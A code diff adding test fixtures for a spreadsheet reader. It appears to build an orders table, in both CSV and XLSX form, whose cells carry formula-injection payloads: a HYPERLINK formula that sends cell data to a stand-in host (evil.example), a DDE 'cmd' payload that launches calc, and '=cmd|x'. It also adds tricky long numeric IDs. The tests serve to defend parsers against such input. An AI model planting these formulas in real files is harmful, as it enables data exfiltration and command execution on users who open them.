@@ -289,6 +289,20 @@ HYPER = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
 CMD = "+cmd|' /C calc'!A0"
 
 
+#: an orders table (the examples' headers) whose text cells are formula-looking or otherwise hostile
+ORDERS_ROWS = [
+    ["订单号", "客户ID", "客户名称", "联系电话", "下单日期", "产品", "数量", "金额", "渠道"],
+    ["=1+1", HYPER, HYPER, "13812345678", "2024-01-05", "@SUM(A1)", "1", "120.5", CMD],
+    ["O2", HYPER, HYPER, "13812345678", "2024-02-05", "@SUM(A1)", "2", "-30", "-2+3"],
+    ["O3", "C2", "NA", "13912345678", "2024-03-05", "=cmd|x", "1", "99", "@chan"],
+    ["O4", "C3", "Null", "+8613712345678", "2024-03-07", "-2+3", "1", "10", "=A1"],
+    ["O5", "123456789012345678", "李四", "13712345678", "2024-03-09", "普通", "1", "10", "线上"],
+    ["O6", "9007199254740993", "李四", "13712345678", "2024-03-09", "\t普通", "1", "1e3", "线上"],
+    ["合计", "", "", "", "", "", "", "1209.5", ""],
+]
+ORDERS_HOSTILE = "".join(",".join('"' + v.replace('"', '""') + '"' for v in r) + "\n" for r in ORDERS_ROWS)
+
+
 def cases() -> list[Case]:
     c: list[Case] = []
     add = c.append
@@ -403,6 +417,14 @@ def cases() -> list[Case]:
     add(Case("formulas_in_header.csv", "read", "formula-looking header cells",
              _text('=1+2,name,"@SUM(A1)",+cmd|x,-x\n1,Ann,b,c,d\n'),
              columns=("=1+2", "name", "@SUM(A1)", "+cmd|x", "-x"), sentinels=("Ann",)))
+    # ---- order-shaped tables: hostile values reach rfm / metrics / pivot / dedupe / report
+    add(Case("orders_hostile.csv", "read", "orders with formula-looking ids/names/products, NA/Null customers, "
+             "18-digit and 2^53+1 ids, a 合计 row", _text(ORDERS_HOSTILE),
+             cells={(2, "客户名称"): HYPER, (2, "产品"): "@SUM(A1)", (4, "客户名称"): "NA",
+                    (6, "客户ID"): "123456789012345678", (7, "客户ID"): "9007199254740993"}))
+    add(Case("orders_hostile.xlsx", "read", "the same orders as a workbook (inline strings)",
+             _bytes(make_xlsx([{"name": "orders", "xml": sheet_xml(rows_xml(ORDERS_ROWS))}])),
+             cells={(2, "客户名称"): HYPER, (2, "产品"): "@SUM(A1)", (5, "渠道"): "=A1"}))
     # ---- xlsx traps
     hidden = make_xlsx([{"name": "secret", "state": "hidden", "xml": sheet_xml(rows_xml([["x", "y"], ["s", "t"]]))},
                         {"name": "data", "xml": sheet_xml(rows_xml(TABLE))}])
